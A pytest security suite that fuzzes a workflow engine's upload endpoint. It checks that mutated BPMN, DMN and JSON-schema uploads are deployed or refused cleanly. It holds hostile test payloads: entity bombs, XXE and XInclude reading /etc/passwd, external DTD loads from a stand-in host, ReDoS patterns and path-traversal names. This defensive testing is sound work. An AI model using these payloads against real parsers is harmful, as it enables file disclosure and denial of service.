"""Uploads of flows, mutated at random from the shipped ones (hypothesis), and hostile XML and JSON: every upload is
deployed (201/200) or refused with 422 and file:line problems — never a 500, never half stored — and entity
tricks, DOCTYPEs, huge files and deep nesting are refused within set limits.

Another seed: ONESTOP_FUZZ_SEED=<n> .venv/bin/pytest tests/security/test_upload_fuzzing.py"""

from __future__ import annotations

import io
import json
import os
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, seed, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from engine.bpmn.parsing import MAX_FILE_BYTES
from engine.store.models import HistoryEntry, ProcessFile, ProcessModel

PROCESSES = Path(__file__).resolve().parents[2] / "processes" / "liaocheng"  # the default city's package
FOLDERS = sorted(p.name for p in PROCESSES.iterdir() if p.is_dir() and any(p.glob("*.bpmn")))
# one_stop_intake calls the other flows: they are deployed first.
ORDER = sorted(FOLDERS, key=lambda name: name == "one_stop_intake")
SEED = int(os.environ.get("ONESTOP_FUZZ_SEED", "20261122"))
EXAMPLES = int(os.environ.get("ONESTOP_FUZZ_EXAMPLES", "60"))
TOKENS = [b"<", b">", b"&", b"&amp;", b'"', b"'", b"</bpmn:process>", b"<bpmn:task id=\"t\"/>", b"\x00", b"\xff\xfe",
          b"]]>", b"<![CDATA[", b"{", b"}", b"[", b"]", b",", b":", b"null", b"1e999", b"-", b"\n", b"\"$ref\"",
          b"__class__", b"import os", b"'{0.__class__}'.format(1)", "县".encode(), b"<!--", b"-->", b"id=\"start\""]


def folder_files(name: str) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted((PROCESSES / name).iterdir())
            if p.suffix in (".bpmn", ".dmn", ".json")}


def upload(client: Any, headers: dict[str, str], files: dict[str, bytes]) -> Any:
    # Encoded here, in memory: the test client spools a big body to a temporary file it never closes.
    boundary, body = encode_multipart(MultiDict([("files", FileStorage(io.BytesIO(content), name))
                                                 for name, content in files.items()]))
    return client.post("/api/v1/process-models", data=body, headers=headers,
                       content_type=f"multipart/form-data; boundary={boundary}")


def stored(platform: Any) -> tuple[int, int, int]:
    with platform.uow(write=False) as uow:
        return (uow.session.scalar(select(func.count()).select_from(ProcessModel)) or 0,
                uow.session.scalar(select(func.count()).select_from(ProcessFile)) or 0,
                uow.session.scalar(select(func.count()).select_from(HistoryEntry)) or 0)


def assert_deployed_or_refused(client: Any, people: Any, platform: Any, files: dict[str, bytes]) -> Any:
    before = stored(platform)
    started = time.monotonic()
    response = upload(client, people.headers("designer"), files)
    assert time.monotonic() - started < 20, "an upload took too long"
    body = response.get_json()
    assert response.status_code in (200, 201, 422), (response.status_code, body)
    if response.status_code == 422:
        assert stored(platform) == before, "a refused upload left rows behind"
        assert body["error"] and body["details"], body
        for problem in body["details"]:
            assert set(problem) >= {"file", "line", "message"} and isinstance(problem["line"], int), problem
            assert problem["file"] in files or problem["file"] == "(no files)", problem
    elif response.status_code == 201:
        assert stored(platform)[0] == before[0] + 1
    else:
        assert stored(platform)[:2] == before[:2]
    return response


@pytest.fixture
def designer_client(app: Any, people: Any, platform: Any) -> Any:
    client = app.test_client()
    for name in ORDER:
        response = upload(client, people.headers("designer"), folder_files(name))
        assert response.status_code == 201, response.get_json()
    return client


def _mutate(content: bytes, draw: Any) -> bytes:
    for _ in range(draw(st.integers(1, 4))):
        kind = draw(st.sampled_from(["delete", "duplicate", "insert", "swap", "truncate", "replace"]))
        if not content:
            return content
        start = draw(st.integers(0, len(content) - 1))
        end = min(len(content), start + draw(st.integers(0, 400)))
        if kind == "delete":
            content = content[:start] + content[end:]
        elif kind == "duplicate":
            content = content[:end] + content[start:end] + content[end:]
        elif kind == "insert":
            content = content[:start] + draw(st.sampled_from(TOKENS)) + content[start:]
        elif kind == "swap":
            other = draw(st.integers(0, len(content) - 1))
            a, b = sorted((start, other))
            content = content[:a] + content[b:b + 50] + content[a + 50:b] + content[a:a + 50] + content[b + 50:]
        elif kind == "truncate":
            content = content[:start]
        else:  # a value from elsewhere in the file: an id, a reference, a number
            source = draw(st.integers(0, len(content) - 1))
            content = content[:start] + content[source:source + draw(st.integers(1, 40))] + content[end:]
    return content


@seed(SEED)
@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                       HealthCheck.too_slow])
@given(data=st.data())
def test_mutated_flows_are_deployed_or_refused_whole(designer_client: Any, people: Any, platform: Any,
                                                     data: Any) -> None:
    folder = data.draw(st.sampled_from(FOLDERS), label="folder")
    files = folder_files(folder)
    name = data.draw(st.sampled_from(sorted(files)), label="file")
    files[name] = _mutate(files[name], data.draw)
    assert_deployed_or_refused(designer_client, people, platform, files)


@seed(SEED)
@settings(max_examples=EXAMPLES // 2, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                            HealthCheck.too_slow])
@given(schema=st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(
        st.sampled_from(["type", "properties", "required", "enum", "items", "$ref", "minLength", "pattern",
                         "title", "format", "allOf", "if", "then", "additionalProperties", "x"]),
        children, max_size=5), max_leaves=20))
def test_arbitrary_form_schemas_are_deployed_or_refused(designer_client: Any, people: Any, platform: Any,
                                                         schema: Any) -> None:
    files = folder_files("health_card")
    files["county_check.json"] = json.dumps(schema).encode()
    assert_deployed_or_refused(designer_client, people, platform, files)


# --- hostile XML and JSON, each refused within the limits ------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"><bpmn:process id="p" name="&lol9;"/>
</bpmn:definitions>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"><bpmn:process id="p" name="&secret;"/>
</bpmn:definitions>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE d SYSTEM "http://198.51.100.7/evil.dtd">
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://198.51.100.7/x.dtd"> %remote;]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"/>"""
XINCLUDE = b"""<?xml version="1.0"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:xi="http://www.w3.org/2001/XInclude">
<xi:include href="file:///etc/passwd" parse="text"/></bpmn:definitions>"""
HEAD = b'<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">'


def deep_xml(depth: int) -> bytes:
    return HEAD + b"<a>" * depth + b"</a>" * depth + b"</bpmn:definitions>"


def wide_xml(size: int) -> bytes:
    """A diagram of about ``size`` bytes: one process of many tasks."""
    task = b'<bpmn:task id="t%06d" />'
    tasks = b"".join(task % n for n in range((size - 200) // len(task % 0)))
    return HEAD + b'<bpmn:process id="p" isExecutable="true">' + tasks + b"</bpmn:process></bpmn:definitions>"


HOSTILE_XML = {
    "billion-laughs": BILLION_LAUGHS, "external-entity": EXTERNAL_ENTITY, "external-dtd": EXTERNAL_DTD,
    "parameter-entity": PARAMETER_ENTITY, "xinclude": XINCLUDE, "deeply-nested": deep_xml(200_000),
    "nested-past-limit": deep_xml(300), "too-big": wide_xml(MAX_FILE_BYTES + 1000),
    "just-under-the-size-limit": wide_xml(MAX_FILE_BYTES - 1000), "not-utf8": b"\xff\xfe<\x00b\x00",
    "empty": b"", "utf16-bom": "<?xml version='1.0' encoding='utf-16'?><a/>".encode("utf-16"),
}


@pytest.mark.parametrize("content", list(HOSTILE_XML.values()), ids=list(HOSTILE_XML))
@pytest.mark.parametrize("suffix", [".bpmn", ".dmn"])
def test_hostile_xml_is_refused_within_limits(designer_client: Any, people: Any, platform: Any, content: bytes,
                                              suffix: str) -> None:
    files = folder_files("subsidy")
    name = "subsidy.bpmn" if suffix == ".bpmn" else "living_subsidy.dmn"
    files[name] = content
    started = time.monotonic()
    response = assert_deployed_or_refused(designer_client, people, platform, files)
    assert response.status_code == 422
    assert time.monotonic() - started < 10
    assert "root:" not in response.get_data(as_text=True)  # nothing of /etc/passwd came back


def test_the_limits_are_the_ones_documented(designer_client: Any, people: Any, platform: Any) -> None:
    files = folder_files("subsidy")
    messages = {name: upload(designer_client, people.headers("designer"), {**files, "subsidy.bpmn": content})
                .get_json()["details"][0]["message"] for name, content in HOSTILE_XML.items()}
    assert "DOCTYPE" in messages["billion-laughs"] and "DOCTYPE" in messages["external-dtd"]
    assert "depth" in messages["deeply-nested"] and "depth" in messages["nested-past-limit"]
    assert "larger than 2048 KiB" in messages["too-big"]
    assert "larger than" not in messages["just-under-the-size-limit"]


REFUSED, EITHER = 422, None
HOSTILE_JSON: dict[str, tuple[bytes, int | None]] = {
    "deeply-nested-arrays": (b"[" * 100_000 + b"]" * 100_000, REFUSED),
    "deeply-nested-schema": (b'{"type": "object", "properties": {"a": ' * 5000 + b"{}" + b"}}" * 5000, REFUSED),
    "nested-under-the-recursion-limit": (
        b'{"type": "object", "properties": {"a": ' * 400 + b"{}" + b"}}" * 400, EITHER),
    "nested-allof": (b'{"allOf": [' * 3000 + b"{}" + b"]}" * 3000, REFUSED),
    "recursive-ref": (b'{"type": "object", "$defs": {"a": {"$ref": "#/$defs/a"}}, '
                      b'"properties": {"x": {"$ref": "#/$defs/a"}}}', REFUSED),
    "remote-ref": (b'{"type": "object", "properties": {"x": {"$ref": "http://198.51.100.7/schema.json"}}}', REFUSED),
    "file-ref": (b'{"type": "object", "properties": {"x": {"$ref": "file:///etc/passwd"}}}', REFUSED),
    "dangling-ref": (b'{"type": "object", "properties": {"x": {"$ref": "#/$defs/missing"}}}', REFUSED),
    "huge-number": (b'{"type": "object", "maxLength": 1' + b"0" * 5000 + b"}", REFUSED),
    "too-big": (b'{"type": "object", "title": "' + b"x" * (MAX_FILE_BYTES + 10) + b'"}', REFUSED),
    "catastrophic-pattern": (b'{"type": "object", "properties": {"x": {"type": "string", "pattern": "^(a+)+$"}}}',
                             REFUSED),
    "catastrophic-pattern-property": (b'{"type": "object", "patternProperties": {"^(\\w*)*$": {}}}', REFUSED),
    "ref-to-the-whole-form": (b'{"type": "object", "properties": {"x": {"$ref": "#"}}, "allOf": [{"$ref": "#"}]}',
                              REFUSED),
    "ref-loop-through-anyof": (b'{"type": "object", "$defs": {"a": {"anyOf": [{"$ref": "#/$defs/b"}]}, '
                               b'"b": {"$ref": "#/$defs/a"}}, "properties": {"x": {"$ref": "#/$defs/a"}}}', REFUSED),
    "ref-deeper-into-the-answer": (b'{"type": "object", "$defs": {"n": {"type": "object", "properties": '
                                   b'{"c": {"$ref": "#/$defs/n"}}}}, "properties": {"x": {"$ref": "#/$defs/n"}}}',
                                   EITHER),
    "nan": (b'{"type": "object", "properties": {"x": {"type": "number", "maximum": NaN}}}', REFUSED),
    "infinity-in-an-enum": (b'{"type": "object", "properties": {"x": {"enum": [1, -Infinity]}}}', REFUSED),
    "number-past-infinity": (b'{"type": "object", "properties": {"x": {"type": "number", "minimum": 1e400}}}',
                             REFUSED),
    "lone-surrogate": (b'{"type": "object", "title": "\\udc80", "properties": {}}', REFUSED),
    "not-utf8": (b"\xff\xfe\x00", REFUSED),
    "not-an-object": (b"[]", REFUSED),
}


@pytest.mark.parametrize(("content", "expected"), list(HOSTILE_JSON.values()), ids=list(HOSTILE_JSON))
def test_hostile_form_schemas_are_refused_or_harmless(designer_client: Any, people: Any, platform: Any,
                                                       content: bytes, expected: int | None) -> None:
    files = folder_files("health_card")
    files["county_check.json"] = content
    started = time.monotonic()
    response = assert_deployed_or_refused(designer_client, people, platform, files)
    assert expected is None or response.status_code == expected, response.get_json()
    assert time.monotonic() - started < 10


def test_file_names_and_counts_are_limited(designer_client: Any, people: Any, platform: Any) -> None:
    files = folder_files("subsidy")
    for name in ("../evil.bpmn", "a/b.json", "x.py", "x\x01.json", "x.svg"):
        response = assert_deployed_or_refused(designer_client, people, platform, {**files, name: b"{}"})
        assert response.status_code == 422, name
    many = {**files, **{f"form{i}.json": b"{}" for i in range(60)}}
    assert assert_deployed_or_refused(designer_client, people, platform, many).status_code == 422


def test_an_upload_over_the_request_limit_is_refused_as_json(designer_client: Any, people: Any) -> None:
    files = {"big.bpmn": b"x" * (21 * 1024 * 1024)}
    response = upload(designer_client, people.headers("designer"), files)
    assert response.status_code == 413 and response.get_json()["error"]
